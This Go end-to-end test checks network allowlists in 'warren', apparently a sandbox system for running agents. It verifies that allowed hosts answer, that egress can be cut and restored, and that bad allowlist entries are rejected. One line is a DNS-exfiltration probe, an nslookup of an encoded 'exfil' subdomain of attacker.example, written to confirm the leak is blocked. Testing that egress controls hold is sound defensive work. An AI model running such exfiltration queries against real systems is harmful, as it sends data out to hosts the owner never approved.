package e2e

import (
	"crypto/rand"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"math/big"
	"net/http"
	"os/exec"
	"strings"
	"testing"

	"github.com/warrenhq/warren/api"
	"github.com/warrenhq/warren/internal/testutil"
	"github.com/warrenhq/warren/internal/testutil/fakenet"
)

// TestUpNetwork is the user story through the CLI: a sandbox
// with an allowlist installs from "pypi.org", the trainer cuts egress
// before the agent runs, and the counters say what was refused.
func TestUpNetwork(t *testing.T) {
	testutil.RequireContainers(t)
	testutil.RequireBinary(t, "go")
	fi := fakenet.New(t)
	d := fi.DNS("203.0.113.53:53", map[string]string{"pypi.org": "203.0.113.10", "files.pythonhosted.org": "203.0.113.11"})
	for addr, body := range map[string]string{"203.0.113.10:80": "simple index", "203.0.113.11:80": "a wheel"} {
		srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { fmt.Fprintln(w, body) })}
		go srv.Serve(fi.Listen(addr))
		t.Cleanup(func() { srv.Close() })
	}
	b := make([]byte, 2)
	rand.Read(b)
	k, _ := rand.Int(rand.Reader, big.NewInt(100))
	name := "e" + hex.EncodeToString(b)
	// The rules outlive warren up (sandboxes keep their policies while no
	// agent runs); this test's go with it.
	t.Cleanup(func() { exec.Command("nft", "delete", "table", "inet", "warren_"+name).Run() })
	c := &cluster{T: t, Bin: warrenBin(t), DataDir: t.TempDir(), Addr: freeAddr(t), Args: []string{
		"--dns-upstream", d.Addr,
		"--network-name", name,
		"--network-pool", fmt.Sprintf("10.213.%d.0/24", 10+k.Int64()),
	}}
	c.Start()
	t.Cleanup(c.CleanupSandboxes)
	var nodes api.NodeList
	if err := json.Unmarshal([]byte(c.MustRun("node", "ls", "-o", "json")), &nodes); err != nil || len(nodes.Nodes) != 1 || !nodes.Nodes[0].Network {
		t.Fatalf("node ls: %+v %v; want a node with a network", nodes, err)
	}

	id := strings.TrimSpace(c.MustRun("sandbox", "create", "--image", "busybox", "--allow", "pypi.org", "--allow", "*.pythonhosted.org"))
	get := func(host string) string {
		out, _, _ := c.Run("exec", id, "--sh", fmt.Sprintf(`printf 'GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n' | nc -w 5 %s 80`, host, host))
		return out
	}
	if out := get("pypi.org"); !strings.Contains(out, "simple index") {
		t.Fatalf("pypi.org from the sandbox: %q", out)
	}
	if out := get("files.pythonhosted.org"); !strings.Contains(out, "a wheel") {
		t.Fatalf("files.pythonhosted.org: %q", out)
	}
	c.Run("exec", id, "--sh", "nslookup exfil-c2VjcmV0.attacker.example")
	if d.Asked("exfil-c2vjcmv0.attacker.example") {
		t.Error("a name outside the policy reached the upstream resolver")
	}

	// Between stages: cut egress.
	if out := c.MustRun("sandbox", "network", id, "--deny-all"); !strings.Contains(out, "none") {
		t.Errorf("network --deny-all: %s", out)
	}
	if out := get("pypi.org"); strings.Contains(out, "simple index") {
		t.Errorf("pypi.org answered after --deny-all: %q", out)
	}
	c.MustRun("sandbox", "network", id, "--allow", "files.pythonhosted.org")
	if out := get("files.pythonhosted.org"); !strings.Contains(out, "a wheel") {
		t.Errorf("after --allow files.pythonhosted.org: %q", out)
	}
	var sb api.Sandbox
	if err := json.Unmarshal([]byte(c.MustRun("sandbox", "get", id, "-o", "json")), &sb); err != nil {
		t.Fatal(err)
	}
	if sb.Network == nil || sb.Network.Mode != api.NetworkAllowlist || len(sb.Network.Allow) != 1 || sb.Network.Address == "" {
		t.Fatalf("sandbox get: network %+v", sb.Network)
	}
	// Bad input: a clear error, and the sandbox keeps its policy.
	if _, stderr, code := c.Run("sandbox", "network", id, "--allow", "2001:db8::/32"); code == 0 || !strings.Contains(stderr, "invalid_argument") {
		t.Errorf("IPv6 entry: exit %d, %s", code, stderr)
	}
	if out := get("files.pythonhosted.org"); !strings.Contains(out, "a wheel") {
		t.Errorf("after a refused update: %q", out)
	}
}
